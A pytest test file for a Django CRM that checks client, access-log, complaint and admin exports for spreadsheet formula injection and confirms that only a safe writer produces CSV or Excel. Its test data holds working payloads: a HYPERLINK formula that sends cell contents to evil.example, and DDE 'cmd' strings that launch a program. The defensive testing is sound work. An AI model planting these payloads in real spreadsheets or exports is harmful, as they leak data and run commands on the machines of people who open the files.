"""Formula injection (issue #14, finding 6): a value a spreadsheet would run as a formula
comes out of every export and report as text, and only the safe writer of
crm.spreadsheets writes CSV or Excel."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.contrib import admin
from django.test import RequestFactory
from django.urls import reverse
from import_export.formats import base_formats

from clients.models import Client
from crm import services, spreadsheets
from crm.spreadsheets import FORMULA_START, safe_cell
from tests.factories import make_client

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B2,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def test_safe_cell():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    for value in (-5, -2.5, Decimal("-12.50"), 0, None, True, date(2025, 1, 1)):
        assert safe_cell(value) == value  # numbers stay numbers, a negative one too
    assert safe_cell("-12.50") == "-12.50"  # text that is just a number is no formula
    assert safe_cell("张三") == "张三" and safe_cell("a=b") == "a=b"
    assert safe_cell("a\x00b\x07") == "ab"  # neither CSV readers nor xlsx take these
    # local time without a zone: Excel has none
    assert safe_cell(datetime(2025, 1, 1, 8, tzinfo=UTC)) == datetime(2025, 1, 1, 16)


def is_formula(text) -> bool:
    return (isinstance(text, str) and text.startswith(FORMULA_START)
            and not re.fullmatch(r"-?\d+(\.\d+)?", text))  # fmt: skip


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def xlsx_cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula
    return [c.value for c in cells]


def assert_neutralised(cells: list, expected: list[str]):
    assert not [c for c in cells if is_formula(c)]
    for text in expected:
        assert "'" + text in cells


@pytest.fixture
def hostile_clients(org):
    for i, name in enumerate(HOSTILE):
        make_client(org.am, name=name, client_no=f"11000000{i:02d}")
    return list(Client.objects.order_by("client_no"))


def names(clients) -> list[str]:
    """The hostile names as stored (saving strips surrounding tabs and returns)."""
    stored = [c.name for c in clients if is_formula(c.name)]
    assert len(stored) >= 5
    return stored


def body_of(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def test_the_client_list_csv(client, org, hostile_clients):
    client.force_login(org.am)
    cells = csv_cells(body_of(client.get(reverse("clients:export"))).decode())
    assert_neutralised(cells, names(hostile_clients))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_unmasked_export(client, org, hostile_clients, fmt):
    export = services.export_request_create(user=org.am, kind="clients", params={},
                                            reason="客户要求提供完整档案核对")  # fmt: skip
    services.export_request_decide(user=org.bm, export_request=export, approve=True)
    client.force_login(org.am)
    response = client.post(reverse("crm:export-download", args=[export.pk]), {"format": fmt})
    body = body_of(response)
    cells = csv_cells(body.decode()) if fmt == "csv" else xlsx_cells(body)
    assert_neutralised(cells, names(hostile_clients))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_access_log_export(client, org, hostile_clients, fmt):
    for c in hostile_clients:
        services.access_log_record(user=org.bm, obj=c, field="id_number",
                                   action="reveal")  # fmt: skip
    client.force_login(org.hq)
    body = body_of(client.get(reverse("crm:access-log"), {"export": fmt}))
    cells = csv_cells(body.decode()) if fmt == "csv" else xlsx_cells(body)
    assert_neutralised(cells, [str(c) for c in hostile_clients if is_formula(str(c))])


def test_the_complaint_workbook(client, org):
    """A name may start with @, + or -: the handler sheet (people by name and role)."""
    from django.contrib.auth import get_user_model

    from crm.references import person_label
    from tests.complaints.helpers import receive

    receive(org)
    get_user_model().objects.filter(pk=org.agent.pk).update(last_name="@SUM(1+1)", first_name="")
    client.force_login(org.bm)
    body = client.get(reverse("complaints:analysis"), {"export": "xlsx"}).content
    agent = get_user_model().objects.select_related("staff__branch").get(pk=org.agent.pk)
    assert_neutralised(xlsx_cells(body), [person_label(agent)])


@pytest.mark.parametrize("file_format", [base_formats.CSV, base_formats.XLSX])
def test_the_admin_export(org, hostile_clients, file_format):
    from django.contrib.auth import get_user_model

    model_admin = admin.site._registry[Client]
    assert [f.__name__ for f in model_admin.get_export_formats()] == ["CSV", "XLSX"]
    request = RequestFactory().get("/admin/clients/client/export/")
    request.user = get_user_model().objects.create_superuser("root", "root@example.com", "x")
    data = model_admin.get_export_data(file_format(), request, Client.objects.all())
    cells = xlsx_cells(data) if file_format is base_formats.XLSX else csv_cells(data)
    assert_neutralised(cells, names(hostile_clients))


def test_excel_sheets_keep_numbers_and_odd_titles():
    content = spreadsheets.xlsx_bytes([
        spreadsheets.Sheet("a/b:c*?[]", ["n"], [[-5], [Decimal("-1.25")]]),
        spreadsheets.Sheet("a/b:c*?[]", ["n"], []),
    ])  # fmt: skip
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert [ws.title for ws in book.worksheets] == ["a b c", "a b c-2"]
    assert [c.value for c in book.worksheets[0]["A"]] == ["n", -5, -1.25]


# --- The class: nothing else writes a spreadsheet ------------------------------------
ROOT = Path(__file__).resolve().parents[2]
APPS = ("crm", "clients", "visits", "complaints", "callcenter", "config")
WRITERS = re.compile(
    r"csv\.writer|csv\.DictWriter|\bimport tablib|\bfrom tablib|tablib\.|\bopenpyxl\b"
    r"|xlsxwriter|\.export\(\s*[\"'](csv|xlsx|xls|tsv|ods)|import_export\.admin import"
    r"|(?<!Safe)ExportMixin\b|to_csv\(|to_excel\("
)
ALLOWED = {
    "crm/spreadsheets.py",  # the safe writer (and the bounded reader)
    "crm/admin.py",  # SafeExportMixin: the admin export through the safe writer
}


def test_only_the_safe_writer_writes_csv_or_excel():
    offenders = []
    for app in APPS:
        for path in sorted((ROOT / app).rglob("*.py")):
            rel = path.relative_to(ROOT).as_posix()
            if "/migrations/" in rel or rel in ALLOWED:
                continue
            for number, line in enumerate(path.read_text().splitlines(), 1):
                if WRITERS.search(line):
                    offenders.append(f"{rel}:{number}: {line.strip()}")
    assert offenders == [], "write CSV/Excel through crm.spreadsheets:\n" + "\n".join(offenders)


def test_every_admin_export_goes_through_the_safe_writer():
    from import_export.admin import ExportMixin

    from crm.admin import SafeExportMixin

    exporting = [type(m).__name__ for m in admin.site._registry.values()
                 if isinstance(m, ExportMixin)]  # fmt: skip
    assert exporting  # the client admin exports
    unsafe = [type(m).__name__ for m in admin.site._registry.values()
              if isinstance(m, ExportMixin) and not isinstance(m, SafeExportMixin)]  # fmt: skip
    assert unsafe == []
